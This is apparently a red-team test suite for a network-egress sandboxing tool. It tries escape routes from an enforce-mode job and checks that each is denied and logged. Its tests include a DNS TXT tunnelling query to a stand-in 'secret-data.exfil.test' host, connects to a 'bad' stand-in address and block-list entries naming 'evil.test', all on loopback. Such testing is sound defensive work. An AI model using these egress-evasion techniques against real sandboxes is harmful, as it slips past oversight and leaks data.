"""Red team: every way out of an enforce-mode job we could think of, each
denied and recorded. A bypass found later is a bug with a test here.

Stand-ins for the outside world are loopback addresses (127.0.30.x) and names
under .test served by a dnsmasq this test starts; nothing leaves the machine.
"""
import os
import signal
import socket
import subprocess
import sys
import time
import unittest

from rwtest import RW, TOOLS, Dnsmasq, RwTestCase, TcpServer

GOOD, BAD, UDP_OK = "127.0.30.1", "127.0.30.2", "127.0.30.3"

CONNECT = """
import socket, sys
fam = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
s = socket.socket(fam, socket.SOCK_STREAM)
s.settimeout(5)
try:
    s.connect((sys.argv[1], int(sys.argv[2])))
    print("ok")
except OSError as e:
    print(e.errno)
"""


class EnforceTest(RwTestCase):
    @classmethod
    def setUpClass(cls):
        cls.log = "/tmp/rw-redteam-dnsmasq.log"
        cls.dns = Dnsmasq(records=[("allowed.test", GOOD), ("evil.test", BAD),
                                   ("evilallowed.test", BAD), ("exfil.test", BAD),
                                   ("v6.allowed.test", "::1")])
        cls.good = TcpServer(GOOD)
        cls.bad = TcpServer(BAD)
        cls.v6 = TcpServer("::1", socket.AF_INET6)

    @classmethod
    def tearDownClass(cls):
        for s in (cls.good, cls.bad, cls.v6):
            s.stop()
        cls.dns.stop()

    def policy(self, extra="", mode="enforce"):
        path = os.path.join(self.tmp, "policy.yaml")
        with open(path, "w") as f:
            f.write(f"""version: 1
mode: {mode}
allow:
  - host: allowed.test
    ports: [{self.good.port}]
  - host: v6.allowed.test
    ports: [{self.v6.port}]
  - ip: {UDP_OK}
    ports: [9999]
    proto: udp
dns:
  upstream: 127.0.53.1
{extra}""")
        return path

    def enforce(self, cmd, *opts, policy=None, **kw):
        return self.rw(cmd, "--policy", policy or self.policy(), *opts, **kw)

    def py(self, code, *args):
        return [sys.executable, "-c", code, *args]

    def denied(self, r, daddr, dport, proto="tcp"):
        evs = r.of("connect", daddr=daddr, dport=dport, proto=proto)
        self.assertTrue(evs, f"no event for {daddr}:{dport}")
        self.assertTrue(all(e["verdict"] in ("deny", "block") for e in evs), evs)
        self.assertTrue(all(e["pid"] for e in evs))
        return evs

    def test_plain_connect_denied_at_once(self):
        before = self.bad.accepted
        t0 = time.time()
        r = self.enforce(self.py(CONNECT, BAD, str(self.bad.port)))
        self.assertLess(time.time() - t0, 10)
        self.assertEqual(r.rc, 1, r.stderr)  # fail_on_violation defaults to on
        (e,) = self.denied(r, BAD, self.bad.port)
        self.assertEqual(e["result"], "EPERM")
        self.assertIn("violation", r.stderr)
        self.assertEqual(r.stdout.strip(), "1")  # errno EPERM, at once
        self.assertEqual(self.bad.accepted, before)

    def test_allowed_name_works_and_is_labelled(self):
        code = f"""
import socket
a = socket.getaddrinfo("allowed.test", {self.good.port}, socket.AF_INET)[0][4]
socket.create_connection(a, timeout=5).close()
print("ok")
"""
        r = self.enforce(["unshare", "-m", "sh", "-c",
                          f"echo 'nameserver 127.0.53.77' > {self.tmp}/resolv.conf && "
                          f"mount --bind {self.tmp}/resolv.conf /etc/resolv.conf && "
                          f"exec {sys.executable} -c '{code}'"])
        self.assertEqual(r.rc, 0, r.stderr)
        (c,) = r.of("connect", daddr=GOOD, dport=self.good.port)
        self.assertEqual((c["verdict"], c["host"]), ("allow", "allowed.test"))
        self.assertIn(c["result"], ("ok", "EINPROGRESS"))

    def test_udp_to_unlisted_port_denied(self):
        code = f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"ok", ("{UDP_OK}", 9999))
try:
    s.sendto(b"x", ("{UDP_OK}", 9998)); print("sent")
except PermissionError:
    print("EPERM")
"""
        r = self.enforce(self.py(code))
        self.assertEqual(r.stdout.strip(), "EPERM")
        self.denied(r, UDP_OK, 9998, "udp")
        (ok,) = r.of("connect", daddr=UDP_OK, dport=9999)
        self.assertEqual(ok["verdict"], "allow")

    def test_ipv6_and_v4_mapped(self):
        code = f"""
import socket
def go(addr, port):
    s = socket.socket(socket.AF_INET6)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.settimeout(5)
    try:
        s.connect((addr, port)); return "ok"
    except OSError as e:
        return e.errno
print(go("::1", {self.v6.port}), go("::1", {self.good.port}), go("::ffff:{BAD}", {self.bad.port}))
"""
        script = f"dig +short @127.0.53.1 AAAA v6.allowed.test >/dev/null && exec {sys.executable} -c '{code}'"
        r = self.enforce(["sh", "-c", script])
        (ok,) = r.of("connect", daddr="::1", dport=self.v6.port)
        self.assertEqual(ok["verdict"], "allow", [e for e in r.events if e["kind"] == "dns"])
        self.denied(r, "::1", self.good.port)
        self.denied(r, f"::ffff:{BAD}", self.bad.port)

    def test_io_uring_refused(self):
        # run's enforce filter refuses io_uring itself (direct descriptors escape every
        # tracepoint: test_redteam); its connects meet the cgroup hooks in whole-job mode
        # and in observe mode (test_observe).
        before = self.bad.accepted
        r = self.enforce([f"{TOOLS}/uring_connect", BAD, str(self.bad.port)])
        self.assertNotEqual(r.rc, 0)
        self.assertIn("uring_connect: setup", r.stderr)
        self.assertEqual(r.of("connect"), [])
        self.assertEqual(self.bad.accepted, before)

    def test_tcp_fast_open_denied(self):
        code = f"""
import socket
s = socket.socket()
try:
    s.sendto(b"x", socket.MSG_FASTOPEN, ("{BAD}", {self.bad.port})); print("sent")
except OSError as e:
    print(e.errno)
"""
        r = self.enforce(self.py(code))
        self.denied(r, BAD, self.bad.port)

    def test_raw_and_packet_sockets_refused(self):
        code = """
import socket
out = []
for args in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
             (socket.AF_PACKET, socket.SOCK_RAW, 0)):
    try:
        socket.socket(*args); out.append("created")
    except PermissionError:
        out.append("EPERM")
print(" ".join(out))
"""
        r = self.enforce(self.py(code))
        # Raw INET sockets: refused by the kernel hook, on record. Packet
        # sockets have no cgroup hook: the job runs without CAP_NET_RAW.
        self.assertEqual(r.stdout.strip(), "EPERM EPERM")
        socks = r.of("socket")
        self.assertEqual([(s["family"], s["verdict"], s["result"]) for s in socks],
                         [("ipv4", "deny", "EPERM"), ("packet", "deny", "EPERM")])

    def test_static_client_other_resolver_refused_name(self):
        # A static binary, its own resolver address, a name not allowed: the
        # kernel hands the query to the gate, which refuses it locally.
        r = self.enforce([f"{TOOLS}/static_dns", "127.0.53.9", "53", "evil.test"])
        self.assertNotEqual(r.rc, 0)
        (d,) = r.of("dns", query="evil.test")
        self.assertEqual((d["rcode"], d["verdict"]), ("NXDOMAIN", "deny"))
        self.assertEqual(d["server"], "127.0.53.9")  # the resolver the job chose, not the gate
        (c,) = r.of("connect", daddr="127.0.53.9", dport=53)
        self.assertTrue(c.get("redirected_to_gate"))

    def test_dns_tunnel_never_leaves(self):
        marker = f"t{os.getpid()}{int(time.time())}"
        r = self.enforce(["dig", "+time=2", "+tries=1", "@127.0.53.1", "TXT",
                          f"{marker}.secret-data.exfil.test"])
        (d,) = r.of("dns", qtype="TXT")
        self.assertEqual(d["rcode"], "NXDOMAIN")
        self.assertNotIn(marker, self.dnsmasq_log())

    def dnsmasq_log(self):
        return self.dns.take_log()

    def test_dns_over_tcp_gated(self):
        r = self.enforce(["sh", "-c", "dig +tcp +time=2 +tries=1 @127.0.53.1 evil.test; "
                          "dig +tcp +short +time=2 +tries=1 @127.0.53.1 allowed.test"])
        evil = r.of("dns", query="evil.test")
        self.assertEqual(evil[0]["rcode"], "NXDOMAIN")
        good = r.of("dns", query="allowed.test")
        self.assertEqual(good[0]["answers"], [GOOD])
        self.assertEqual(good[0]["proto"], "tcp")

    def test_suffix_lookalike_refused(self):
        code = f"""
import subprocess, socket
subprocess.run(["dig", "+short", "@127.0.53.1", "evilallowed.test"])
s = socket.socket(); s.settimeout(5)
try:
    s.connect(("{BAD}", {self.bad.port})); print("ok")
except OSError as e:
    print(e.errno)
"""
        r = self.enforce(self.py(code))
        (d,) = r.of("dns", query="evilallowed.test")
        self.assertEqual(d["rcode"], "NXDOMAIN")
        self.denied(r, BAD, self.bad.port)

    def test_double_forked_daemon_still_fenced(self):
        before = self.bad.accepted
        script = (f"(setsid {sys.executable} -c 'import time,socket; time.sleep(1); "
                  f"s=socket.socket(); s.settimeout(3)\ntry: s.connect((\"{BAD}\", {self.bad.port}))\n"
                  f"except OSError: pass' &) ; exit 0")
        r = self.enforce(["sh", "-c", script], "--grace", "10")
        self.denied(r, BAD, self.bad.port)
        self.assertEqual(self.bad.accepted, before)

    def test_unlisted_resolver_denied(self):
        pol = self.policy(extra="  resolvers: [127.0.53.1]\n")
        r = self.enforce(["dig", "+time=1", "+tries=1", "@127.0.53.9", "allowed.test"],
                         policy=pol)
        self.denied(r, "127.0.53.9", 53, "udp")

    def test_observe_records_audit_and_lets_through(self):
        r = self.rw(self.py(CONNECT, BAD, str(self.bad.port)), "--policy",
                    self.policy(mode="observe"))
        self.assertEqual(r.rc, 0, r.stderr)
        (e,) = r.of("connect", daddr=BAD, dport=self.bad.port)
        self.assertEqual(e["verdict"], "audit")
        self.assertIn(e["result"], ("ok", "EINPROGRESS"))
        self.assertEqual(r.summary["audits"], 1)

    def test_block_list_applies_in_observe(self):
        pol = self.policy(mode="observe").replace("dns:", "")
        extra = f"block:\n  - host: evil.test\n  - ip: {BAD}\ndns:\n  upstream: 127.0.53.1\n"
        with open(pol) as f:
            text = f.read().replace("dns:\n  upstream: 127.0.53.1\n", extra)
        with open(pol, "w") as f:
            f.write(text)
        r = self.rw(["sh", "-c", f"dig +short @127.0.53.1 evil.test; "
                     f"{sys.executable} -c '{CONNECT}' {BAD} {self.bad.port}"],
                    "--policy", pol)
        (d,) = r.of("dns", query="evil.test")
        self.assertEqual((d["rcode"], d["verdict"]), ("NXDOMAIN", "block"))
        (c,) = r.of("connect", daddr=BAD, dport=self.bad.port)
        self.assertEqual((c["verdict"], c["result"]), ("block", "EPERM"))

    def test_learn_writes_a_policy_that_passes(self):
        r = self.rw(["sh", "-c", f"dig +short @127.0.53.1 allowed.test && "
                     f"{sys.executable} -c '{CONNECT}' {GOOD} {self.good.port}"],
                    "--mode", "learn", "--policy", self.policy(mode="observe"))
        learned = os.path.join(r.outdir, "policy.learned.yaml")
        self.assertTrue(os.path.exists(learned), r.stderr)
        with open(learned) as f:
            text = f.read()
        self.assertIn("allowed.test", text)
        p = subprocess.run([RW, "policy", "check", learned], capture_output=True)
        self.assertEqual(p.returncode, 0, p.stderr)


class MovingAddressTest(RwTestCase):
    """An allowed name whose address changes mid-job: the new address is
    allowed once the gate has seen it in an answer; an address no answer
    gave stays denied."""

    def resolve_here(self, server, name):
        """Asked by the test itself, outside any job: recorded nowhere."""
        return subprocess.run(["dig", "+short", "+time=1", "+tries=1", f"@{server}", name],
                              capture_output=True, text=True).stdout.split()

    def test_address_change_mid_job(self):
        hosts = os.path.join(self.tmp, "hosts")
        with open(hosts, "w") as f:
            f.write("127.0.30.4 moving.test\n")
        old, new = TcpServer("127.0.30.4"), TcpServer("127.0.30.5")
        self.addCleanup(old.stop)
        self.addCleanup(new.stop)
        dns = Dnsmasq(addr="127.0.53.2", log_file="/dev/null",
                      extra=[f"--addn-hosts={hosts}", "--local-ttl=1"])
        self.addCleanup(dns.stop)
        pol = os.path.join(self.tmp, "p.yaml")
        with open(pol, "w") as f:
            f.write("version: 1\nmode: enforce\nallow:\n  - host: moving.test\n"
                    "dns:\n  upstream: 127.0.53.2\n")
        moved, go = os.path.join(self.tmp, "moved"), os.path.join(self.tmp, "go")
        code = f"""
import os, socket, subprocess, time
def resolve():
    return subprocess.run(["dig", "+short", "@127.0.53.2", "moving.test"],
                          capture_output=True, text=True).stdout.split()
def connect(a, port):
    s = socket.socket(); s.settimeout(3)
    try:
        s.connect((a, port)); return "ok"
    except OSError as e:
        return str(e.errno)
first = resolve()
print(first, connect("127.0.30.4", {old.port}))
open({moved!r}, "w").close()
while not os.path.exists({go!r}): time.sleep(0.02)
second = resolve()
print(second, connect("127.0.30.5", {new.port}), connect("127.0.30.6", 9))
"""
        p = subprocess.Popen([RW, "run", "--no-sign", "--quiet", "--policy", pol, "--out",
                              os.path.join(self.tmp, "out"), "--", sys.executable, "-c", code],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        deadline = time.time() + 30
        while not os.path.exists(moved) and time.time() < deadline:
            time.sleep(0.02)
        with open(hosts, "w") as f:
            f.write("127.0.30.5 moving.test\n")
        dns.proc.send_signal(signal.SIGHUP)  # dnsmasq rereads its hosts file
        # ...when it next runs: on a busy machine that was later than a fixed 0.3 s, and the
        # job's second question got the old address.
        deadline = time.time() + 30
        while time.time() < deadline and self.resolve_here("127.0.53.2", "moving.test") != [
                "127.0.30.5"]:
            time.sleep(0.05)
        open(go, "w").close()
        out, err = p.communicate(timeout=60)
        lines = out.decode().splitlines()
        self.assertEqual(lines[0], "['127.0.30.4'] ok", err)
        self.assertEqual(lines[1], "['127.0.30.5'] ok 1", err)
        from rwtest import Run
        r = Run(p.returncode, err.decode(), os.path.join(self.tmp, "out"))
        (c,) = r.of("connect", daddr="127.0.30.5")
        self.assertEqual((c["verdict"], c["host"]), ("allow", "moving.test"))
        (d,) = r.of("connect", daddr="127.0.30.6")
        self.assertEqual(d["verdict"], "deny")


class PolicyInputTest(RwTestCase):
    def test_malformed_policy_refused_before_running(self):
        pol = os.path.join(self.tmp, "bad.yaml")
        marker = os.path.join(self.tmp, "ran")
        with open(pol, "w") as f:
            f.write("version: 1\nallow:\n  - host: ok.test\n    bogus: 1\n")
        p = subprocess.run([RW, "run", "--no-sign", "--out", os.path.join(self.tmp, "o"),
                            "--policy", pol, "--", "touch", marker],
                           capture_output=True, timeout=30)
        self.assertNotEqual(p.returncode, 0)
        err = p.stderr.decode()
        self.assertEqual(len(err.strip().splitlines()), 1, err)
        self.assertIn(f"{pol}:4:5", err)
        self.assertFalse(os.path.exists(marker))

    def test_enforce_needs_a_policy(self):
        p = subprocess.run([RW, "run", "--mode", "enforce", "--", "true"], capture_output=True,
                           timeout=30)
        self.assertNotEqual(p.returncode, 0)
        self.assertIn(b"--policy", p.stderr)


if __name__ == "__main__":
    unittest.main()
